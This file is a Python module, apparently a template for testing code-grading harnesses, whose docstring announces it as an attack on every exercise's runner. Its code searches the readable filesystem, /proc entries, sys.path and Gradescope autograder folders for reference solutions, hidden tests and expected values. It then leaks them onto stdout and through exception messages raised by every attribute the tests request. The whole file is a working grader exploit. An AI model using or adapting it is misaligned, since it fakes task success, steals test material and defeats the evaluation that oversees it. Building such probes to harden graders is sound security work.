"""Attack (in every exercise's runner): find reference code, hidden tests or recorded expected values anywhere
this process can read — its staging directory, its working directory and their parents, every sys.path
entry, the kit's path, what /proc says of its parent, a Gradescope autograder's folders, the modules the
judge uses — and echo it, a chunk per call, into exception messages (shown in visible tests' output) and
onto stdout. Every name the tests ask for is a function that raises the next chunk.
"""

from __future__ import annotations

import importlib
import os
import sys

KIT = "@KIT@"
SKIP = ("proc", "sys", "dev", "usr", "lib", "lib64", "numpy", "site-packages", "dist-packages", "share", "include",
        ".git", "__pycache__", ".venv", ".venv-ci", ".pyenv", ".cache")
NAMES = ("solutions", "reference_kernels", "judge_kernels", "suites", "_checks", "expected", "grader")
ROOTS = [KIT, "@OTHER@", "@TMP@", "/autograder", "/autograder/source", "/opt", "/tmp", "/root", "/work", os.getcwd(),
         os.path.dirname(os.path.dirname(os.path.abspath(__file__)))]


def _parents(path: str) -> list[str]:
    found = []
    while path not in ("/", ""):
        found.append(path)
        path = os.path.dirname(path)
    return found


def _judge_paths() -> list[str]:
    paths = []
    for pid in (str(os.getppid()), "1"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                paths += [p.decode("utf-8", "replace") for p in f.read().split(b"\0") if p.startswith(b"/")]
            paths.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    return paths


def _readable_sources() -> list[tuple[int, str, str]]:
    roots = [*ROOTS, *sys.path, *_judge_paths()]
    roots += [p for r in list(roots) for p in _parents(r)]
    found, seen, visited = [], set(), 0
    for root in dict.fromkeys(roots):
        walk = os.walk(root) if os.path.isdir(root) else [(os.path.dirname(root), [], [os.path.basename(root)])]
        for folder, dirs, files in walk:
            dirs[:] = [d for d in dirs if d not in SKIP and not d.startswith("python")][:50]
            visited += 1
            if visited > 1500:
                break
            for name in files:
                path = os.path.join(folder, name)
                if path in seen or not name.endswith((".py", ".json")):
                    continue
                seen.add(path)
                try:
                    with open(path, encoding="utf-8", errors="replace") as f:
                        text = f.read(200_000)
                except OSError:
                    continue
                rank = 0 if any(n in path for n in NAMES[:3]) else 1 if any(n in path for n in NAMES) else 2
                found.append((rank, path, text))
    for module in ("solutions.relu", "solutions.conv", "reference_kernels.conv", "grader.suites.hidden"):
        try:
            with open(importlib.import_module(module).__file__) as f:
                found.append((0, module, f.read()))
        except Exception:  # not found is the expected outcome
            continue
    return sorted(found)[:400]


_CHUNKS = [f"{path}: {text[i:i + 480]}" for _, path, text in _readable_sources() for i in range(0, len(text), 480)]
print("\n".join(_CHUNKS)[:1_000_000])
_next = iter(range(1 << 30))


def _leak(*args, **kwargs):
    n = next(_next)
    raise RuntimeError(_CHUNKS[n % len(_CHUNKS)] if _CHUNKS else "nothing readable found")


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    if name == "ResidualBlock":
        return type("ResidualBlock", (), {"__init__": _leak})
    return _leak
